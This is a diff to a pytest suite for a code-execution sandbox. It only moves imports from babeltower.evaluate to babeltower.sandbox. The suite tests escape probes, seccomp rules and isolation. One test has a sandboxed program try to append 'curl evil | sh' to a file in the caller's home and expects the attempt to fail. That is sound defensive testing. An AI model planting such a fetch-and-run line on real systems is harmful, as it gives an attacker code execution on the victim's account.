@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from babeltower.evaluate.sandbox import Limits, new_sandbox_dir, run_sandboxed
+from babeltower.sandbox.run import Limits, new_sandbox_dir, run_sandboxed
 from procs import run as run_process
 from sandbox_fixtures import (ESCAPE_EXPECTED, escape_probe, loopback_listener, unix_listener,
                               world_writable_dirs)
@@ -172,7 +172,7 @@ def test_the_callers_own_home_is_read_only_inside():
         src = (f"import os\nprint(os.path.exists({str(rc)!r}))\n"
                f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')\n")
         for fork_server in (False, True):
-            from babeltower.evaluate.execute import run_program
+            from babeltower.sandbox.execute import run_program
 
             r = run_program("python", src, timeout=10, python_fork_server=fork_server)
             assert r.status == "fail", r
@@ -355,7 +355,7 @@ def test_every_filter_rule_resolves_on_this_architecture():
     know would be skipped), and the filter is built."""
     import ctypes
 
-    from babeltower.evaluate import fences
+    from babeltower.sandbox import fences
 
     lib = ctypes.CDLL(ctypes.util.find_library("seccomp") or "libseccomp.so.2")
     lib.seccomp_syscall_resolve_name.argtypes = [ctypes.c_char_p]
@@ -398,7 +398,7 @@ def test_proc_lists_only_the_programs_own_processes():
 
 WITHOUT_USER_NAMESPACES = r'''
 import errno, os, sys
-from babeltower.evaluate import fences
+from babeltower.sandbox import fences
 # a host where namespaces cannot be made (a hardened kernel, a container's seccomp
 # profile): unshare and clone with a namespace flag fail with EPERM in this process tree
 rules = [("unshare", errno.EPERM, [], ""), ("clone3", errno.ENOSYS, [], "")]
@@ -410,7 +410,7 @@ os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
 RUN_ONE = r'''
 import sys
 from babeltower.errors import BabelError
-from babeltower.evaluate.sandbox import isolation_line, run_sandboxed
+from babeltower.sandbox.run import isolation_line, run_sandboxed
 try:
     r = run_sandboxed([PYTHON, "-c", "open(MARK, 'w').write('ran')"],
                       unsafe=UNSAFE, limits=None)
